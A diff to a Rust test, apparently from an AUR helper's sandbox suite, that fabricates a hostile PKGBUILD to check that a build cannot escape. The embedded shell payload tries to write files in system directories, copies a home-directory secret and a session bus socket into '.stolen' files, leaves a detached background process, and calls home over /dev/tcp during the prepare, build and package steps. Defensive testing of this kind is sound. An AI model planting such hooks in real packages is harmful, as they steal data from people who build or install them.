@@ -174,14 +174,14 @@ fn a_hostile_pkgbuild_gets_nowhere() {
     world.machine.run("sh", &["-c", &format!("chown builder {HOME}/secret; mkdir -p /run/user/1000; : >/run/user/1000/bus; chmod 666 /run/user/1000/bus; : >/tmp/theirs; chmod 666 /tmp/theirs")]);
     let port = world.aur.port;
     let attack = format!(
-        "attack() {{ (set +e\n\
+        "attack() {{ (trap - ERR; set +e\n\
          for place in {HOME} /tmp /var/tmp .. ../.. /run /etc /usr /; do : >\"$place/pwned\"; done 2>/dev/null\n\
          cat {HOME}/secret /run/user/1000/bus >>\"$1.stolen\" 2>/dev/null\n\
          [ ! -e /tmp/theirs ] || echo tmp >>\"$1.stolen\"\n\
          [ ! -e /run/user ] || echo run >>\"$1.stolen\"\n\
          setsid sleep 54321 >/dev/null 2>&1 </dev/null &\n\
          (exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET /from-%s HTTP/1.0\\r\\n\\r\\n' \"$1\" >&3 && cat <&3) >/dev/null 2>&1\n\
-         ); true; }}\n"
+         ) || true; }}\n"
     );
     let plain = pkgbuild("evil", "1", "x\n", "prepare() { attack prepare; }\nbuild() { attack build; }\n");
     let package = "package() { attack package; mkdir -p \"$pkgdir/usr/share\"; cp \"$startdir\"/*.stolen \"$srcdir\"/*.stolen \"$pkgdir/usr/share/\" || true; ";
